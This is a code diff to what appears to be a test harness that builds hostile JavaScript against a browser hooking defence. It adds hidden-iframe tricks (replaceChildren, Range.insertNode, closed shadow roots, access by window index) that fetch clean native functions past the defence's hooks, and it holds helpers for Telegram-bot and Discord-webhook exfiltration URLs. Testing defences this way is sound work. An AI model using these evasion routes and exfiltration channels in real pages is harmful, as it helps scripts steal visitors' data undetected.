@@ -13,7 +13,19 @@ export const telegramUrl = (tag: string): string => `https://api.telegram.org/bo
 export const discordUrl = (tag: string): string => `https://discord.com/api/webhooks/1/${tag}`;
 
 /** Where the attack gets its functions from. */
-export type Realm = 'page' | 'about-blank' | 'srcdoc' | 'sandboxed';
+export type Realm =
+  | 'page'
+  | 'about-blank'
+  | 'srcdoc'
+  | 'sandboxed'
+  // Frames reached by index (`window[n]`, which no hook sees), inserted by the rarer DOM routes:
+  | 'replace-children'
+  | 'range-insert'
+  | 'shadow-html'
+  | 'srcdoc-by-index';
+
+/** The frame the page added last, by index: not through `contentWindow`, which Saq hooks. */
+const LAST_FRAME = 'window[window.length - 1]';
 
 /** Shared prelude: the log and a `step(name, fn)` that never throws. */
 const PRELUDE = `window.__hostileLog = window.__hostileLog || [];
@@ -30,6 +42,14 @@ function realmExpression(realm: Realm): string {
       return `await new Promise((resolve) => { const f = document.createElement('iframe'); f.style.display = 'none'; f.srcdoc = '<p>clean</p>'; f.onload = () => resolve(f.contentWindow); document.body.appendChild(f); })`;
     case 'sandboxed':
       return `await new Promise((resolve) => { const f = document.createElement('iframe'); f.style.display = 'none'; f.setAttribute('sandbox', 'allow-same-origin'); f.onload = () => resolve(f.contentWindow); document.body.appendChild(f); })`;
+    case 'replace-children':
+      return `(() => { const box = document.createElement('div'); box.style.display = 'none'; document.body.appendChild(box); box.replaceChildren(document.createElement('iframe')); return ${LAST_FRAME}; })()`;
+    case 'range-insert':
+      return `(() => { const box = document.createElement('div'); box.style.display = 'none'; document.body.appendChild(box); const range = document.createRange(); range.selectNodeContents(box); range.insertNode(document.createElement('iframe')); return ${LAST_FRAME}; })()`;
+    case 'shadow-html':
+      return `(() => { const host = document.createElement('div'); document.body.appendChild(host); host.attachShadow({ mode: 'closed' }).innerHTML = '<iframe style="display:none"></iframe>'; return ${LAST_FRAME}; })()`;
+    case 'srcdoc-by-index':
+      return `await new Promise((resolve) => { const f = document.createElement('iframe'); f.style.display = 'none'; f.srcdoc = '<p>clean</p>'; f.onload = () => resolve(${LAST_FRAME}); document.body.appendChild(f); })`;
   }
 }
 
